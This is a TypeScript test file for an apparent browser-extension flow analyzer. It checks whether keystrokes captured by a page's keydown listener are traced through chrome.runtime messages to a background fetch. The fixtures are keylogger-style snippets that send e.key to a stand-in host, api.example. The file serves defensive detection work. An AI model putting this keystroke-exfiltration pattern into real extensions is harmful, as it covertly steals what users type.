import { describe, expect, it } from 'vitest';
import { flowsOf } from '../extension/flowsOf.ts';
import { factsOf } from '../testing/examples.ts';
import { sample } from '../testing/sample.ts';

/** Whether keys that a page's script sends reach a request of the background. */
async function arrive(send: string, background: string): Promise<boolean> {
  const content = `addEventListener("keydown", (e) => { ${send} });`;
  const facts = await factsOf(sample({ content, background }));
  return facts.whole(flowsOf).flows.some(({ source, sink }) => source.kind === 'keys' && sink.kind === 'network');
}

const ask = 'fetch("https://api.example/n/" + m.detail)';
const heard = (body: string) => `chrome.runtime.onMessage.addListener((m) => { ${body} });`;
const says = (message: string) => `chrome.runtime.sendMessage(${message});`;

describe('what a message is told by', () => {
  it('is a constant in it', async () => {
    const news = heard(`if (m.type === "news") ${ask};`);
    expect(await arrive(says('{ type: "news", detail: e.key }'), news)).toBe(true);
    expect(await arrive(says('{ type: "key", detail: e.key }'), news)).toBe(false);
    expect(await arrive(says('{ detail: e.key }'), news), 'it has no type').toBe(false);
  });

  it('is a property that it has', async () => {
    for (const news of [heard(`if (m.news) ${ask};`), heard(`if (!m.news) return; ${ask};`)]) {
      expect(await arrive(says('{ news: true, detail: e.key }'), news)).toBe(true);
      expect(await arrive(says('{ typed: true, detail: e.key }'), news)).toBe(false);
    }
  });

  it('is not known where the message may get more than stands there', async () => {
    const news = heard(`if (m.news) ${ask};`);
    expect(await arrive(`const o = { detail: e.key }; o.news = true; ${says('o')}`, news)).toBe(true);
    const typed = `const o = { type: "key", detail: e.key }; o.type = "news"; ${says('o')}`;
    expect(await arrive(typed, heard(`if (m.type === "news") ${ask};`))).toBe(true);
    expect(await arrive(says('{ ...base, detail: e.key }'), news)).toBe(true);
  });

  it('says nothing of a part of the message, of another parameter, or of a text', async () => {
    const part = `const ship = (t) => { if (t.length) fetch("https://api.example/n/" + t); }; ${heard('const t = m.detail; ship(t);')}`;
    expect(await arrive(says('{ kind: "k", detail: e.key }'), part)).toBe(true);
    const second = `const ship = (s, m) => { if (s.tab) ${ask}; }; chrome.runtime.onMessage.addListener((m, s) => { ship(s, m); });`;
    expect(await arrive(says('{ kind: "k", detail: e.key }'), second)).toBe(true);
    const text = heard('if (m.length) fetch("https://api.example/", { method: "POST", body: m });');
    expect(await arrive(says('JSON.stringify({ kind: "k", detail: e.key })'), text)).toBe(true);
  });
});
